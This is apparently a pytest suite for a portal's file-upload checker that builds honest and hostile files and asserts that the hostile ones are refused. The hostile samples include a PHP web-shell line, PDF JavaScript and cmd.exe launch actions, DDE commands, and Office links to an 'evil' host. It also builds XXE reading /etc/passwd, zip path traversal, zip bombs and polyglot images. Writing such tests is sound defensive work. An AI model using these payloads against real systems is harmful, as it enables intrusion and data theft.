"""Hostile and broken files, each built here, each refused with a sentence; honest ones of each kind pass."""

import io
import struct
import tracemalloc
import zipfile
import zlib

import pytest
from docx import Document
from hypothesis import given, settings
from hypothesis import strategies as st
from openpyxl import Workbook
from PIL import Image
from pypdf import PdfWriter
from pypdf.actions import JavaScript

from yushan_portal.lib.files import RefusedFile, check_upload
from yushan_portal.lib.files.kinds import INSTEAD

MEGABYTE = 1024 * 1024


def docx_bytes(extra: dict[str, bytes] | None = None) -> bytes:
    out = io.BytesIO()
    document = Document()
    document.add_paragraph("各乡镇人民政府：")
    document.save(out)
    return repacked(out.getvalue(), extra or {})


def xlsx_bytes(extra: dict[str, bytes] | None = None) -> bytes:
    out = io.BytesIO()
    book = Workbook()
    book.active.append(["序号", "项目", "金额（万元）"])
    book.save(out)
    return repacked(out.getvalue(), extra or {})


def repacked(package: bytes, extra: dict[str, bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(package)) as old, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as new:
        for entry in old.infolist():
            if entry.filename not in extra:
                new.writestr(entry.filename, old.read(entry))
        for name, content in extra.items():
            new.writestr(name, content)
    return out.getvalue()


def ofd_bytes() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as package:
        package.writestr(
            "OFD.xml", '<?xml version="1.0" encoding="UTF-8"?><ofd:OFD xmlns:ofd="http://www.ofdspec.org/2016"/>'
        )
        package.writestr("Doc_0/Document.xml", "<Document/>")
    return out.getvalue()


def pdf_bytes(writer: PdfWriter | None = None) -> bytes:
    out = io.BytesIO()
    writer = writer or PdfWriter()
    writer.add_blank_page(595, 842)
    writer.write(out)
    return out.getvalue()


def image_bytes(form: str, size=(40, 30)) -> bytes:
    out = io.BytesIO()
    Image.new("RGB", size, "white").save(out, form)
    return out.getvalue()


def box(kind: bytes, content: bytes = b"") -> bytes:
    return struct.pack(">L4s", 8 + len(content), kind) + content


MP4 = box(b"ftyp", b"isom\0\0\2\0isomiso2") + box(b"moov", b"\0" * 20) + box(b"mdat", b"\1" * 100)
MP3 = b"\xff\xfb\x90\x64" + b"\0" * 413
HONEST = {
    "年报.pdf": pdf_bytes(),
    "版式.ofd": ofd_bytes(),
    "通知.docx": docx_bytes(),
    "清单.xlsx": xlsx_bytes(),
    "清单.csv": "序号,项目\r\n1,公路\r\n".encode(),
    "国标.csv": "序号,项目\r\n1,公路\r\n".encode("gb18030"),
    "说明.txt": "\ufeff一、总体要求\n".encode(),
    "字幕.vtt": "WEBVTT\n\n00:01.000 --> 00:02.000\n各位好\n".encode(),
    "图.jpg": image_bytes("JPEG"),
    "图.jpeg": image_bytes("JPEG"),
    "图.PNG": image_bytes("PNG"),
    "图.gif": image_bytes("GIF"),
    "图.webp": image_bytes("WEBP"),
    "会议.mp4": MP4,
    "录音.mp3": MP3,
}


@pytest.mark.parametrize("name", HONEST)
def test_an_honest_file_passes_and_is_left_at_its_beginning(name):
    file = io.BytesIO(HONEST[name])
    checked = check_upload(file, name)
    assert checked.size == len(HONEST[name])
    assert len(checked.sha256) == 64
    assert file.tell() == 0
    assert checked.remarks == ()


@pytest.mark.parametrize("extension", sorted(INSTEAD))
def test_a_type_outside_the_list_is_refused_with_what_to_do_instead(extension):
    with pytest.raises(RefusedFile) as refusal:
        check_upload(b"anything", f"文件.{extension}")
    assert str(refusal.value).endswith("。")


@pytest.mark.parametrize(
    ("name", "word"), [("通知.doc", ".docx"), ("通知.wps", ".docx"), ("表.et", ".xlsx"), ("表.xls", ".xlsx")]
)
def test_old_office_formats_are_told_which_format_to_save_as(name, word):
    with pytest.raises(RefusedFile, match=f"另存为 {word}"):
        check_upload(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 512, name)


def relations(kind: str, target: str) -> bytes:
    return (
        '<?xml version="1.0" encoding="UTF-8"?>'
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="x1" '
        f'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/{kind}" Target="{target}" '
        'TargetMode="External"/></Relationships>'
    ).encode()


def with_member(package: bytes, name: str, content: bytes = b"x") -> bytes:
    out = io.BytesIO(package)
    with zipfile.ZipFile(out, "a") as archive:
        archive.writestr(name, content)
    return out.getvalue()


def with_script(trigger: str) -> bytes:
    writer = PdfWriter()
    if trigger == "script":
        writer.add_open_action(JavaScript("app.alert(1)"))
    else:
        writer.add_attachment("a.exe", b"MZ")
    return pdf_bytes(writer)


def pdf_with(inside: bytes) -> bytes:
    return HONEST["年报.pdf"].replace(b"%%EOF", inside + b"\n%%EOF")


def pdf_object_stream(content: bytes, padding: bytes = b"", filters: bytes = b"/FlateDecode") -> bytes:
    packed = zlib.compress(content)
    return pdf_with(
        b"9 0 obj\n<</Type/ObjStm/N 1/First 4/Filter%s/Length %d>>%sstream\n%s\nendstream\nendobj\nstartxref\n0"
        % (filters, len(packed), padding, packed)
    )


def overlapping_zip() -> bytes:
    """Two directory entries over the same bytes."""
    package = bytearray(with_member(docx_bytes(), "word/a.bin", b"A" * 2000))
    at = package.rfind(b"PK\x05\x06")
    entries, size, _ = (
        struct.unpack("<H", package[at + 10 : at + 12])[0],
        *struct.unpack("<LL", package[at + 12 : at + 20]),
    )
    last = package.rfind(b"PK\x01\x02")
    copy = bytearray(package[last:at])
    copy[46:56] = b"word/b.bin"
    package[at:at] = copy
    at += len(copy)
    package[at + 8 : at + 12] = struct.pack("<HH", entries + 1, entries + 1)
    package[at + 12 : at + 16] = struct.pack("<L", size + len(copy))
    return bytes(package)


def many_entries() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        for number in range(6_000):
            archive.writestr(f"word/{number}.xml", b"")
    return out.getvalue()


def png_claiming(width: int, height: int) -> bytes:
    header = struct.pack(">LLBBBBB", width, height, 8, 2, 0, 0, 0)
    chunk = b"IHDR" + header
    return b"\x89PNG\r\n\x1a\n" + struct.pack(">L", 13) + chunk + struct.pack(">L", zlib.crc32(chunk)) + png_end()


def png_end() -> bytes:
    return b"\0\0\0\0IEND" + struct.pack(">L", zlib.crc32(b"IEND"))


HTML = b"<!DOCTYPE html><html><script>alert(1)</script></html>"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
GIF = HONEST["图.gif"]
HOSTILE = {
    "a page named pdf": ("年报.pdf", HTML),
    "a page before a pdf": ("年报.pdf", HTML + HONEST["年报.pdf"]),
    "a page in the head of a pdf": ("年报.pdf", b"%PDF-1.7\n" + HTML + HONEST["年报.pdf"]),
    "a zip before a pdf": ("年报.pdf", HONEST["通知.docx"] + HONEST["年报.pdf"]),
    "a zip behind a pdf": ("年报.pdf", HONEST["年报.pdf"] + HONEST["通知.docx"]),
    "a page behind a pdf": ("年报.pdf", HONEST["年报.pdf"] + HTML),
    "a pdf with script": ("年报.pdf", with_script("script")),
    "a pdf with an embedded file": ("年报.pdf", with_script("file")),
    "a pdf that launches": ("年报.pdf", pdf_with(b"<</S/Launch/F(cmd.exe)>>")),
    "a pdf with an escaped name": ("年报.pdf", pdf_with(b"<</S/J#61va#53cript/JS(x)>>")),
    "a pdf with script in an object stream": ("年报.pdf", pdf_object_stream(b"1 0 <</S/JavaScript/JS(x)>>")),
    "a pdf with a padded object stream": ("年报.pdf", pdf_object_stream(b"1 0 <</S/JavaScript>>", b" " * 9000)),
    "a pdf with odd filters": ("年报.pdf", pdf_object_stream(b"1 0 x", filters=b"[/FlateDecode/LZWDecode]")),
    "a pdf bomb": ("年报.pdf", pdf_object_stream(b"\0" * 40 * MEGABYTE)),
    "a pdf without end": ("年报.pdf", HONEST["年报.pdf"][:200]),
    "svg as svg": ("图.svg", SVG),
    "svg named png": ("图.png", SVG),
    "svg named txt": ("图.txt", SVG),
    "html as html": ("页.html", HTML),
    "html named csv": ("页.csv", b"\xef\xbb\xbf\n " + HTML),
    "html named docx": ("页.docx", HTML),
    "gif that is a script": ("图.gif", b"GIF89a/*" + GIF[8:] + b"*/=1;alert(1)"),
    "gif with a page in a comment": ("图.gif", GIF[:-1] + b"!\xfe" + bytes([len(HTML)]) + HTML + b"\0;"),
    "gif with a tail": ("图.gif", GIF + b"alert(document.cookie);"),
    "png with a tail": ("图.png", HONEST["图.PNG"] + b"PK\x03\x04 something"),
    "jpg with a zip behind": ("图.jpg", HONEST["图.jpg"] + HONEST["通知.docx"]),
    "jpg with php": ("图.jpg", HONEST["图.jpg"] + b"<?php system($_GET['c']); ?>"),
    "webp with a tail": ("图.webp", HONEST["图.webp"] + b"x" * 64),
    "a picture of 10 gigapixels": ("图.png", png_claiming(100_000, 100_000)),
    "a thin endless picture": ("图.png", png_claiming(1, 60_000)),
    "a broken picture": ("图.jpg", HONEST["图.jpg"][:40]),
    "jpg named png": ("图.png", HONEST["图.jpg"]),
    "macros in docx": ("通知.docx", with_member(HONEST["通知.docx"], "word/vbaProject.bin")),
    "macros in xlsx": ("表.xlsx", with_member(HONEST["清单.xlsx"], "xl/vbaProject.bin")),
    "old macro sheets": ("表.xlsx", with_member(HONEST["清单.xlsx"], "xl/macrosheets/sheet1.xml")),
    "a docm renamed": (
        "通知.docx",
        docx_bytes({"[Content_Types].xml": b"<T>vnd.ms-word.document.macroEnabled.main+xml</T>"}),
    ),
    "an OLE object": ("通知.docx", with_member(HONEST["通知.docx"], "word/embeddings/oleObject1.bin")),
    "an html part": ("通知.docx", with_member(HONEST["通知.docx"], "word/afchunk.htm", HTML)),
    "an attached template": (
        "通知.docx",
        docx_bytes({"word/_rels/settings.xml.rels": relations("attachedTemplate", "http://evil/x.dotm")}),
    ),
    "an outside picture": (
        "通知.docx",
        docx_bytes({"word/_rels/header9.xml.rels": relations("image", "http://evil/x.png")}),
    ),
    "a script link": (
        "通知.docx",
        docx_bytes({"word/_rels/header9.xml.rels": relations("hyperlink", "javascript:alert(1)")}),
    ),
    "another workbook": (
        "表.xlsx",
        xlsx_bytes({"xl/externalLinks/_rels/e1.xml.rels": relations("externalLinkPath", "file:///D:/表.xlsx")}),
    ),
    "entities": (
        "通知.docx",
        with_member(HONEST["通知.docx"], "word/x.xml", b'<!DOCTYPE a [<!ENTITY b "c">]><a>&b;</a>'),
    ),
    "late entities": (
        "通知.docx",
        with_member(HONEST["通知.docx"], "word/x.xml", b" " * 65_530 + b"<!DOCTYPE a SYSTEM 'file:///etc/passwd'><a/>"),
    ),
    "entities in UTF-16": (
        "通知.docx",
        with_member(HONEST["通知.docx"], "word/x.xml", "<!DOCTYPE a><a/>".encode("utf-16")),
    ),
    "an odd encoding": (
        "通知.docx",
        with_member(HONEST["通知.docx"], "word/x.xml", b'<?xml version="1.0" encoding="UTF-7"?><a/>'),
    ),
    "a dynamic data exchange": (
        "通知.docx",
        with_member(HONEST["通知.docx"], "word/x.xml", b"<w:instrText>DDEAUTO c:\\cmd</w:instrText>"),
    ),
    "an upward path": ("通知.docx", with_member(HONEST["通知.docx"], "../../etc/cron.d/x")),
    "an absolute path": ("通知.docx", with_member(HONEST["通知.docx"], "/etc/passwd")),
    "a windows path": ("通知.docx", with_member(HONEST["通知.docx"], "C:\\x.txt")),
    "overlapping entries": ("通知.docx", overlapping_zip()),
    "too many entries": ("通知.docx", many_entries()),
    "a zip comment": ("通知.docx", HONEST["通知.docx"][:-2] + b"\x05\x00hello"),
    "a prefix before docx": ("通知.docx", b"PK\x03\x04" + HTML + HONEST["通知.docx"]),
    "a cut docx": ("通知.docx", HONEST["通知.docx"][:-30]),
    "a bare zip named docx": ("通知.docx", ofd_bytes()),
    "docx named xlsx": ("表.xlsx", HONEST["通知.docx"]),
    "xlsx named ofd": ("版式.ofd", HONEST["清单.xlsx"]),
    "a zip": ("全部.zip", HONEST["通知.docx"]),
    "nothing": ("通知.docx", b""),
    "nothing as text": ("说明.txt", b""),
    "a program named txt": ("说明.txt", b"MZ\x90\0\x03\0\0\0"),
    "bytes of no encoding": ("说明.txt", b"\xff\xff\xff\xff"),
    "a program": ("安装.exe", b"MZ\x90\0"),
    "subtitles without a head": ("字幕.vtt", "一、总体要求".encode()),
    "a page named mp4": ("会议.mp4", HTML),
    "a film with a page in it": ("会议.mp4", MP4 + box(b"free", HTML)),
    "a film with a tail": ("会议.mp4", MP4 + b"PK\x03\x04"),
    "text named mp3": ("录音.mp3", b"hello"),
}


@pytest.mark.parametrize("case", HOSTILE)
def test_a_hostile_or_broken_file_is_refused_with_one_sentence(case):
    name, content = HOSTILE[case]
    with pytest.raises(RefusedFile) as refusal:
        check_upload(content, name)
    assert str(refusal.value).endswith("。")
    assert str(refusal.value).count("。") == 1


def bomb(size: int) -> bytes:
    out = io.BytesIO(HONEST["通知.docx"])
    with zipfile.ZipFile(out, "a", zipfile.ZIP_DEFLATED) as archive, archive.open("word/media/a.png", "w") as part:
        for _ in range(size // MEGABYTE):
            part.write(b"\0" * MEGABYTE)
    return out.getvalue()


def test_a_zip_bomb_is_refused_without_being_unpacked():
    content = bomb(400 * MEGABYTE)
    tracemalloc.start()
    with pytest.raises(RefusedFile, match="大得不合常理"):
        check_upload(content, "通知.docx")
    assert tracemalloc.get_traced_memory()[1] < 8 * MEGABYTE
    tracemalloc.stop()


class Endless(io.RawIOBase):
    """A file of 300 MB that was never written anywhere."""

    def __init__(self, size: int) -> None:
        self.left, self.served = size, 0

    def seek(self, *_):
        return 0

    def read(self, amount=-1):
        piece = b"%PDF-1.7" + b"\0" * (min(amount, self.left) - 8) if self.left > 8 else b""
        self.left -= len(piece)
        self.served += len(piece)
        return piece


def test_three_hundred_megabytes_are_refused_in_bounded_memory_soon_after_the_limit(settings):
    settings.MEDIA_MAX_MB = 10
    file = Endless(300 * MEGABYTE)
    tracemalloc.start()
    with pytest.raises(RefusedFile, match="超过了 10 MB"):
        check_upload(file, "年报.pdf")
    assert tracemalloc.get_traced_memory()[1] < 4 * MEGABYTE
    assert file.served < 11 * MEGABYTE
    tracemalloc.stop()


def test_a_claimed_size_over_the_limit_is_refused_before_reading():
    file = Endless(300)
    file.size = 300 * MEGABYTE
    with pytest.raises(RefusedFile, match="太大"):
        check_upload(file, "年报.pdf", most_bytes=MEGABYTE)
    assert file.served == 0


def test_an_encrypted_pdf_comes_in_with_a_remark_for_the_person_who_decides():
    writer = PdfWriter()
    writer.add_blank_page(595, 842)
    writer.encrypt("secret", algorithm="RC4-128")
    out = io.BytesIO()
    writer.write(out)
    assert "加了密" in check_upload(out.getvalue(), "年报.pdf").remarks[0]


def test_an_ordinary_link_to_a_website_is_no_reason_to_refuse_a_document():
    content = docx_bytes({"word/_rels/header9.xml.rels": relations("hyperlink", "https://www.gov.cn/")})
    assert check_upload(content, "通知.docx").kind == "docx"


def test_a_pdf_with_plain_object_streams_passes():
    assert check_upload(pdf_object_stream(b"1 0 <</Type/Catalog>>"), "年报.pdf").mime == "application/pdf"


@settings(max_examples=150, deadline=None)
@given(st.sampled_from(sorted(HONEST)), st.data())
def test_a_damaged_file_is_taken_or_refused_but_never_an_error(name, data):
    content = bytearray(HONEST[name])
    for _ in range(data.draw(st.integers(1, 6))):
        content[data.draw(st.integers(0, len(content) - 1))] = data.draw(st.integers(0, 255))
    cut = data.draw(st.integers(0, len(content)))
    for broken in (bytes(content), bytes(content[:cut])):
        try:
            assert check_upload(broken, name).size == len(broken)
        except RefusedFile as refusal:
            assert str(refusal).endswith("。")
